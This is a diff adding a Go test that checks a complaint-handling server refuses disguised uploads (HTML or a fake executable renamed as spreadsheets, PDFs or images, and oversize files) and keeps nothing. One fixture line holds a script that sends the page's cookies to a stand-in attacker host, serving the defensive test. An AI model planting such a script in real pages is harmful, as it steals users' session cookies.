@@ -1,9 +1,11 @@
 package server_test
 
 import (
+	"context"
 	"net/http"
 	"net/http/httptest"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 
@@ -120,4 +122,51 @@ func TestSecurityHeadersOnEveryRoute(t *testing.T) {
 	if r := plain.anon().get("/login"); r.Header.Get("Strict-Transport-Security") != "" {
 		t.Fatal("HSTS over plain HTTP")
 	}
+}
+
+// TestUploadDisguisedFiles: every kind of upload is judged by its content,
+// not its name or the browser's type: an HTML page or a program renamed
+// .jpg/.png/.pdf/.xlsx/.csv is refused with a Chinese 4xx and nothing is
+// kept; an oversize file is refused too.
+func TestUploadDisguisedFiles(t *testing.T) {
+	forEachEngine(t, func(t *testing.T, e *env) {
+		html := []byte("<!DOCTYPE html><html><script>document.location='https://evil.example/?'+document.cookie</script></html>")
+		exe := append([]byte("MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"), make([]byte, 200)...)
+		refused := func(what string, r resp, codes ...int) {
+			t.Helper()
+			if !slices.Contains(codes, r.StatusCode) || !regexp.MustCompile(`\p{Han}`).MatchString(r.body) {
+				t.Errorf("%s: %d (want one of %v with a Chinese message) %.200s", what, r.StatusCode, codes, r.body)
+			}
+		}
+		// 12315 import: content, not extension, decides; no batch is stored.
+		reg := e.login("regulator01")
+		batches := countOf(t, e, `SELECT COUNT(*) FROM import_batches`)
+		refused("HTML as .xlsx", upload(t, reg, "12315导出.xlsx", html), 415, 422)
+		refused("program as .csv", upload(t, reg, "12315导出.csv", exe), 415, 422)
+		if n := countOf(t, e, `SELECT COUNT(*) FROM import_batches`); n != batches {
+			t.Errorf("a disguised import was stored (%d batches, was %d)", n, batches)
+		}
+		// Agreement verification takes PDFs only.
+		refused("HTML as .pdf to /verify", uploadFile(e.anon(), "/verify", "file", "协议书.pdf", html, nil), 415)
+		// The committee's seal: a PNG.
+		refused("HTML as the seal .png", uploadFile(e.login("committee01"), "/seal", "seal", "印章.png", html, nil), 400, 422)
+		// A party's evidence.
+		_, id, links := onlineCase(t, e)
+		files := countOf(t, e, `SELECT COUNT(*) FROM case_evidence WHERE case_id = `+itoa(id))
+		refused("HTML as .jpg evidence", uploadFileJSON(e.anon(), links["consumer"]+"/evidence", "发票.jpg", html, map[string]string{"channel": "consumer"}), 415, 422)
+		big := append([]byte("\xff\xd8\xff\xe0"), make([]byte, 11<<20)...)
+		refused("oversize evidence", uploadFileJSON(e.anon(), links["consumer"]+"/evidence", "大图.jpg", big, map[string]string{"channel": "consumer"}), 413, 422)
+		if n := countOf(t, e, `SELECT COUNT(*) FROM case_evidence WHERE case_id = `+itoa(id)); n != files {
+			t.Errorf("a refused upload was kept as evidence")
+		}
+	})
+}
+
+func countOf(t *testing.T, e *env, q string) int {
+	t.Helper()
+	var n int
+	if err := e.db.Writer().QueryRowContext(context.Background(), q).Scan(&n); err != nil {
+		t.Fatal(err)
+	}
+	return n
 }
